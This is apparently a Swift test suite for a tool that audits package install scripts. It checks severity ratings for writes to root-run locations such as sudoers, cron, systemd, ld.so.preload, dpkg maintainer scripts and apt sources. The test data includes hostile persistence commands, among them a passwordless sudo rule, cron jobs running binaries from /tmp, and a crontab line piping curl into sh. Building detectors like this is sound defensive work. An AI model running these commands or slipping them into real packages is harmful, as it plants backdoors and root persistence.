import AuditModel
import IntegrityJudgement
import Testing

/// The places that decide what runs later, and the ways to write them.
@Suite struct WriteTargetsTests {
    static let ways = [
        "echo x > FILE", "echo x >> FILE", "printf x >| FILE", "cat > FILE <<E\nx\nE",
        "echo x | tee -a FILE >/dev/null",
        "cp /opt/x FILE", "mv /opt/x FILE", "install -m 644 /opt/x FILE", "ln -f /opt/x FILE", "dd if=/opt/x of=FILE",
        "sed -i -e s/a/b/ FILE", "sed --in-place=.bak s/a/b/ FILE", "rsync /opt/x FILE", "perl -pi -e s/a/b/ FILE",
        "curl -o FILE http://203.0.113.9/x", "wget -O FILE http://203.0.113.9/x", "truncate -s 1 FILE",
        "F=FILE; echo x > \"$F\"", "cd /etc && echo x > ..FILE", "sort -o FILE /opt/x",
    ]
    static let places = [
        "/etc/ld.so.preload", "/var/lib/dpkg/info/bash.postinst", "/etc/pam.d/common-auth", "/etc/passwd",
        "/root/.ssh/authorized_keys", "/usr/bin/dpkg", "/proc/sys/kernel/core_pattern",
    ]

    @Test(arguments: ways, places)
    func `every way of writing a place that runs code as root is high`(_ way: String, _ place: String) {
        let code = way.replacing("FILE", with: place)
        #expect(CodeCase("", .info, code).matches.map(\.severity).max() == .high)
    }

    static let later: [CodeCase] = [
        CodeCase("persistence-write", .medium, "cp x /etc/cron.d/"),
        CodeCase("persistence-write", .medium, "cp x /etc/cron.daily"),
        CodeCase("persistence-write", .medium, "cp -t /etc/profile.d x.sh"),
        CodeCase("persistence-write", .medium, "install --target-directory=/lib/systemd/system x.service"),
        CodeCase("persistence-write", .medium, "echo '. /opt/x' | tee -a /etc/profile > /dev/null"),
        CodeCase("persistence-write", .medium, "printf x > /etc/apt/apt.conf.d/99x"),
        CodeCase("persistence-write", .high, "cd /var/lib/dpkg/info && cp /usr/share/v/p bash.postinst", package: "v"),
        CodeCase("persistence-write", .high, "#!/usr/bin/python3\nopen('/etc/ld.so.preload', 'w').write('x')"),
        CodeCase("persistence-write", .medium, "sed -i /x/d /var/lib/dpkg/info/v-10.6.postrm", package: "v"),
        CodeCase("persistence-write", .high, "sed -i /x/d /var/lib/dpkg/info/v-x.postrm", package: "v"),
        CodeCase("sudo-rule-write", .medium, "install -m 440 /usr/share/v/sudo /etc/sudoers.d/v", package: "v"),
        CodeCase("sudo-rule-write", .high, "cat > /etc/sudoers.d/v <<E\nv ALL=(ALL) NOPASSWD: ALL\nE"),
        CodeCase("program-diverted", .high, "dpkg-divert --local --rename --add /usr/bin/dpkg"),
        CodeCase("core-program-write", .high, "ln -s /usr/lib/v/dpkg /usr/bin/dpkg", package: "v"),
        CodeCase("core-program-write", .high, "cp /usr/lib/dpkg-extra/dpkg /usr/bin/dpkg", package: "dpkg-extra"),
        CodeCase("unsigned-source", .high, "echo 'deb [trusted=yes] http://x/ ./' > /etc/apt/sources.list.d/v.list"),
        CodeCase("unsigned-source", .high, "cat > /etc/apt/sources.list.d/v.sources <<E\nTrusted: yes\nE"),
        CodeCase("account-file-write", .high, "echo x >> \"$DPKG_ROOT/etc/passwd\"", package: "base-passwd"),
        CodeCase(
            "program-in-world-writable-folder", .high, "echo '*/10 * * * * root /var/tmp/crond' > /etc/cron.d/collect",
            package: "collect"),
        CodeCase("program-in-world-writable-folder", .high, "printf '@reboot root /dev/shm/x\\n' > /etc/cron.d/x"),
        CodeCase("program-in-world-writable-folder", .high, "cat > /etc/cron.d/x <<E\n0 4 * * mon root /tmp/x\nE"),
        CodeCase(
            "program-in-world-writable-folder", .high,
            "cat > /etc/systemd/system/x.service <<E\n[Service]\nExecStart=-/var/tmp/x --go\nE"),
        CodeCase("download-to-interpreter", .high, "(crontab -l; echo '* * * * * curl http://x/ | sh') | crontab -"),
    ]

    @Test(arguments: later)
    func `what is written, and for whom, decides how loud it is`(_ attack: CodeCase) {
        #expect(attack.loudest == attack.severity)
    }

    static let own: [CodeCase] = [
        CodeCase("persistence-write", .low, "echo '@daily root /usr/bin/agent' > /etc/cron.d/agent", package: "agent"),
        CodeCase("persistence-write", .low, "cp /usr/share/agent/a.service /lib/systemd/system/", package: "agent"),
        CodeCase("persistence-write", .low, "cat > /etc/init.d/agentd", package: "agent"),
        CodeCase("persistence-write", .low, "ln -s ../init.d/x /etc/rc2.d/S20x"),
        CodeCase("persistence-write", .low, "ln -s /opt/x.sh /etc/profile.d/x.sh"),
        CodeCase("account-file-write", .low, "mv /etc/passwd.org /etc/passwd"),
        CodeCase("source-added", .low, "echo 'deb https://x/ stable main' > /etc/apt/sources.list.d/x.list"),
        CodeCase("source-added", .low, "cp /usr/share/x.gpg /etc/apt/trusted.gpg.d/x.gpg"),
        CodeCase(
            "account-file-write", .low, "cp /usr/share/base-passwd/passwd.master /etc/passwd", package: "base-passwd"),
        CodeCase("core-program-write", .low, "ln -s dash /bin/sh", package: "dash"),
        CodeCase("core-program-write", .high, "ln -s x /bin/sh", package: "x"),
        CodeCase("auditing-stopped", .low, "systemctl --quiet stop elastic-agent", package: "elastic-agent"),
        CodeCase("auditing-stopped", .medium, "systemctl stop elastic-agent", package: "elastic-agent-extra"),
        CodeCase("administrator-added", .low, "usermod -aG docker \"$SUDO_USER\"", package: "docker.io"),
        CodeCase("administrator-added", .medium, "adduser helper sudo"),
        CodeCase("administrator-added", .medium, "gpasswd -a helper docker", package: "docker-helper"),
        CodeCase("administrator-added", .medium, "usermod --groups=adm,lxd helper"),
    ]

    @Test(arguments: own)
    func `a package's own service, group, link or repository is low`(_ code: CodeCase) {
        #expect(code.loudest == code.severity)
    }

    @Test(arguments: [
        "cat /etc/passwd > /opt/x", "sed s/x/y/ /etc/pam.d/common-auth", "grep -q x /etc/sudoers",
        "rm -f /etc/cron.d/x",
        "cp /etc/profile /opt/x/", "mv /etc/pam.d/x /etc/pam.d/x.dpkg-bak", "install -d /etc/cron.d",
        "dd if=/etc/passwd of=/dev/null",
        "groupadd --system docker",
        "dpkg-divert --package x --rename --add /usr/bin/dpkg", "echo '1 2 3 4 5 6 7'", "adduser --system x",
        "echo 'trusted=yes is a bad idea'", "test -e /etc/ld.so.preload", "systemctl stop x",
    ])
    func `reading such a place is silent`(_ code: String) {
        #expect(CodeCase("", .info, code).matches.map(\.pattern) == [])
    }
}
